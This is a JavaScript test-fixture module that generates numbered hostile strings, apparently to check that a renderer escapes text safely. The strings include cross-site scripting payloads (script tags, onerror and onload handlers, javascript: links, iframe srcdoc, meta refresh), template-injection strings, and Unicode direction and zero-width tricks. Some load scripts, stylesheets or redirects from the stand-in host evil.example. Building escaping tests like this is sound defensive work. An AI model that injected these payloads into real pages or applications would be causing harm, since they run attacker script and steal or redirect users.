// Texts that try to become more than text on a page. N is the number of the text.
const FORMS = [
    "<script>window.ran=N;document.title='taken';alert(N)</script>",
    "\"><script src=//evil.example/N.js></script>",
    "</main></body></html><script>window.ran=N</script>",
    "<img src=x onerror=\"window.ran=N;alert(N)\">",
    "'\"><svg/onload=alert(N)>",
    "<svg><script>window.ran=N</script><animate onbegin=alert(N) attributeName=x dur=1s>",
    "<a href=javascript:alert(N)>N</a>",
    "<a href=\"java\tscript:alert(N)\">N</a> javascript:alert(N)",
    "[N](javascript:alert(N)) ![N](https://evil.example/N.png)",
    "<iframe srcdoc=\"<script>parent.ran=N</script>\"></iframe>",
    "<style>@import '//evil.example/N.css';*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/N.css><base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/N\">",
    "<form action=//evil.example/N><input name=form autofocus onfocus=alert(N)><button>go</button></form>",
    "]]><!--N--><math><mi//xlink:href=\"data:x,<script>alert(N)</script>\">",
    "right \u202eN ot tfel\u202c and \u2066isolated\u2069 \u061c N",
    "zero\u200bwidth\u200d \ufeffN and \u00adsoft, \u2028line\u2029 and tag \u{e0041}\u{e0042}",
    "<b><i><table><tr><td>N<div></td></p></span><textarea><title>N",
    "{{constructor.constructor('alert(N)')()}} ${alert(N)} #{N} <%= N %> &lt;script&gt;alert(N)&lt;/script&gt; &#60;b&#62;",
    "N" + "x".repeat(1800),
    "N" + "\u0e01\u0e33".repeat(300) + "\u0301".repeat(60),
    "https://evil.example/" + "a/".repeat(300) + "N",
    "\uff1cscript\uff1ealert(N)\uff1c/script\uff1e and \u0130N\u0131 \ud83d\udc69\u200d\ud83d\udc67".repeat(4),
    "onclick=alert(N) ' onmouseover='alert(N)' x=\" style=\"position:fixed;inset:0\" N",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(N)>\">N <xmp><plaintext>",
];

/** So many texts, no two alike. */
export function texts(count) {
    return Array.from({ length: count }, (_, at) => {
        const number = at + 1;
        return `${FORMS[at % FORMS.length].replaceAll("N", String(number))} nth${number}`;
    });
}

/** The words of a text that are plain letters and so stand on the page as they are. */
export function end(number) {
    return `nth${number}`;
}
